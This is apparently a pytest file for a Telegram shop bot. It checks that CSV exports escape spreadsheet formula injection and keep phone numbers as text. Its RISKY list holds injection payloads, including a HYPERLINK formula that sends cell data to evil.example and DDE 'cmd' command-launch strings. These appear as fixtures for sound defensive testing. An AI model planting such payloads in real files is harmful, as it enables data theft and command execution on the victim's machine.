"""CSV exports open in a spreadsheet as data: no cell runs as a formula, phones stay text."""

from __future__ import annotations

import csv
import io

import pytest

from bot.app import Application
from bot.domain import insights
from tests.conftest import OWNER_ID
from tests.fakeapi import FakeTelegram
from tests.helpers import join

RISKY = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", RISKY)
def test_a_risky_text_cell_is_neutralised(value: str) -> None:
    [_header, [card, name, balance]] = cells(
        insights.to_csv(["card_number", "name", "balance"], [("12345678", value, -20)])
    )
    assert name == "'" + value and card == "12345678"
    assert balance == "-20"  # numbers are not text: they stay as they are


@pytest.mark.parametrize(
    ("phone", "written"),
    [("+380671234567", "'+380671234567"), ("0671234567", "'0671234567"), (None, "")],
)
def test_phone_numbers_are_always_text(phone: str | None, written: str) -> None:
    data = insights.to_csv(["name", "phone"], [("Ann", phone)])
    assert cells(data)[1] == ["Ann", written]
    line = data.decode("utf-8-sig").splitlines()[1]
    assert line == f'"Ann","{written}"' if phone else line == '"Ann",""'


def test_harmless_text_is_unchanged() -> None:
    data = insights.to_csv(["name", "reason"], [("Оксана 1+1", "sorry - late"), ("a=b", "x@y")])
    assert cells(data)[1:] == [["Оксана 1+1", "sorry - late"], ["a=b", "x@y"]]


async def test_export_of_a_customer_named_like_a_formula(
    app: Application, fake: FakeTelegram
) -> None:
    evil = fake.user(4801, RISKY[0])
    await join(fake, evil)
    customer = await app.shop.storage.customer_by_telegram(4801)
    assert customer is not None
    await app.shop.storage.set_phone(customer.id, "+380671234567")
    fake.send_message(fake.user(OWNER_ID, "Olga"), "/export")
    files = await fake.wait_for(
        lambda: (
            docs
            if len(docs := [m for m in fake.messages(OWNER_ID) if m.kind == "document"]) == 2
            else None
        )
    )
    customers = cells(files[0].file_bytes)
    header, row = customers[0], customers[1]
    assert row[header.index("name")] == "'" + RISKY[0]
    assert row[header.index("phone")] == "'+380671234567"
    for table in (customers, cells(files[1].file_bytes)):
        assert not [c for line in table[1:] for c in line if c.startswith(insights.FORMULA_STARTS)]
